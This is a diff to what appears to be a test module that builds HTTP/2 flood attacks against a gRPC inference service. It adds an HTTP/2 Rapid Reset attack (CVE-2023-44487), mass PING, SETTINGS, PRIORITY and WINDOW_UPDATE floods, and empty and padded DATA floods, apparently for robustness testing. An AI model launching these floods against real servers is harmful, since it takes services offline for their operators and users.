@@ -9,6 +9,7 @@ from dataclasses import dataclass
 
 from tests.attacks import frames
 from tests.attacks.calls import Call, Target
+from tests.attacks.sizes import MB
 
 CHECK = "/grpc.health.v1.Health/Check"  # needs no key
 CHAT = "/quire.inference.v1.InferenceService/Chat"
@@ -102,6 +103,37 @@ def without_end(num_bytes: int = 64_000_000, path: str = CHAT) -> list[Call]:
     return [Flood(head + more * (num_bytes // len(more)), 1)]
 
 
+def resets(path: str = CHAT, calls: int = 100_000) -> list[Call]:
+    """Calls that are given up as they are made (CVE-2023-44487)."""
+    cancel = (8).to_bytes(4, "big")
+    blocks = [frames.call_headers(path)] + [frames.same_headers()] * (calls - 1)
+    sent = b"".join(
+        frames.frame(frames.HEADERS, frames.END_HEADERS, 1 + 2 * n, block)
+        + frames.frame(frames.RST_STREAM, 0, 1 + 2 * n, cancel)
+        for n, block in enumerate(blocks)
+    )
+    return [Flood(sent, calls)]
+
+
+def repeated(kind: int, payload: bytes, count: int, flags: int = 0, stream: int = 0) -> list[Call]:
+    """A frame that asks for work, or for nothing, again and again."""
+    return [Flood(frames.frame(kind, flags, stream, payload) * count, 1)]
+
+
+def empty_data(count: int = 1_000_000) -> list[Call]:
+    """A call whose request comes in frames that hold nothing."""
+    head = frames.frame(frames.HEADERS, frames.END_HEADERS, 1, frames.call_headers(CHAT))
+    return [Flood(head + frames.frame(frames.DATA, 0, 1) * count, 1)]
+
+
+def padded_data(count: int = 20_000) -> list[Call]:
+    """A call whose request comes in frames that are padding but for a byte, one message of a gigabyte."""
+    head = frames.frame(frames.HEADERS, frames.END_HEADERS, 1, frames.call_headers(CHAT))
+    first = frames.frame(frames.DATA, 0, 1, b"\x00" + (MB).to_bytes(4, "big"))
+    more = frames.frame(frames.DATA, frames.PADDED, 1, bytes([255]) + b"a" + bytes(255))
+    return [Flood(head + first + more * count, 1)]
+
+
 FLOODS: dict[str, Callable[[], list[Call]]] = {
     "HTTP/2: HPACK references": references,
     "HTTP/2: HPACK references, 3 connections": lambda: references(connections=3),
@@ -109,4 +141,12 @@ FLOODS: dict[str, Callable[[], list[Call]]] = {
     "HTTP/2: 50,000 HEADERS with END_STREAM and no message": without_messages,
     "HTTP/2: 50,000 health checks with END_STREAM and no message": lambda: without_messages(CHECK),
     "HTTP/2: CONTINUATION without end": without_end,
+    "HTTP/2: 100,000 calls that are reset": resets,
+    "HTTP/2: 100,000 health checks that are reset": lambda: resets(CHECK),
+    "HTTP/2: 500,000 PING": lambda: repeated(frames.PING, bytes(8), 500_000),
+    "HTTP/2: 500,000 SETTINGS": lambda: repeated(frames.SETTINGS, b"\x00\x01\x00\x00\x10\x00", 500_000),
+    "HTTP/2: 500,000 PRIORITY": lambda: repeated(frames.PRIORITY, bytes(5), 500_000, stream=1),
+    "HTTP/2: 500,000 WINDOW_UPDATE": lambda: repeated(frames.WINDOW_UPDATE, b"\x00\x00\x00\x01", 500_000),
+    "HTTP/2: 1,000,000 empty DATA": empty_data,
+    "HTTP/2: DATA of padding": padded_data,
 }
